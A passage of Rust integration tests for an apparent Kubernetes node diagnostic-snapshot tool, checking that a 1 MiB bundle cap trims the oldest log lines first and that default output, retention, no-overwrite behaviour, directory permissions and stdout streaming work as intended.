            "{now} aks-node kubelet[1201]: line {i:05} {noise}\n"
        ));
    }
    write(r, "/var/log/syslog", &text);

    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("capped.tar.gz");
    cli_snapshot(
        r,
        &tmp.path().join("state"),
        &out,
        &["--max-mib", "1", "--json"],
    );
    let bytes = std::fs::read(&out).unwrap();
    assert!(
        bytes.len() <= 1 << 20,
        "{} bytes over the 1 MiB cap",
        bytes.len()
    );
    assert_eq!(verify(&out).0, 0);
    let e = entries(&bytes);
    let m = json_of(&e, "manifest.json");
    let trimmed = m["trimmed"].as_array().unwrap();
    let t = trimmed
        .iter()
        .find(|t| t["entry"] == "logs/kubelet/var/log/syslog")
        .unwrap_or_else(|| panic!("the log was trimmed: {trimmed:?}"));
    assert_eq!(t["reason"], "bundle size cap");
    assert_eq!(t["dropped"]["kept"], "newest");
    assert!(t["dropped"]["lines"].as_u64().unwrap() > 1000);
    // Everything before the logs is whole.
    for n in [
        "facts.json",
        "findings.json",
        "processes.json",
        "configs.json",
    ] {
        assert!(e.contains_key(n), "{n}");
        assert!(!trimmed.iter().any(|t| t["entry"] == n), "{n} trimmed");
    }
    let kept = String::from_utf8_lossy(&e["logs/kubelet/var/log/syslog"]).into_owned();
    // The default keeps 5000 lines; the cap cut further, from the oldest.
    assert!(
        kept.lines().last().unwrap().contains("line 19999 "),
        "the newest line is kept"
    );
    assert!(!kept.contains("line 15000 "), "the oldest lines went first");
    let first: u32 = kept.lines().next().unwrap().split("line ").nth(1).unwrap()[..5]
        .parse()
        .unwrap();
    let n = kept.lines().count() as u32;
    assert_eq!(first + n, 20_000, "a contiguous tail");
}

#[test]
fn default_output_goes_to_the_state_dir_with_retention() {
    let host = prepared_host("kubeadm");
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path().join("state");
    for i in 0..4 {
        let o = snapshot_cmd(host.path(), &state)
            .args(["--id", &format!("r{i}"), "--keep", "2"])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    }
    let dir = snapshot::snapshot_dir(&state);
    let left = listing(&dir);
    assert_eq!(left.len(), 4, "two bundles and their sidecars: {left:?}");
    // Names sort by time, then id: the newest two are kept.
    assert!(
        left[0].ends_with("-r2.tar.gz") && left[2].ends_with("-r3.tar.gz"),
        "{left:?}"
    );
    // An existing bundle is never replaced.
    let existing = dir.join(&left[0]);
    let o = snapshot_cmd(host.path(), &state)
        .args(["--out", s(&existing)])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(70));
    assert!(String::from_utf8_lossy(&o.stderr).contains("exists"));
    assert_eq!(listing(&dir).len(), 4);
    assert_eq!(
        std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777,
        0o700
    );
    // And streamed to stdout.
    let o = snapshot_cmd(host.path(), &state)
        .args(["--out", "-"])
        .output()
        .unwrap();
    assert!(o.status.success());
    let e = entries(&o.stdout);
    assert!(e.contains_key("manifest.json"));
    assert!(String::from_utf8_lossy(&o.stderr).contains(&sha256_hex(&o.stdout)));
}
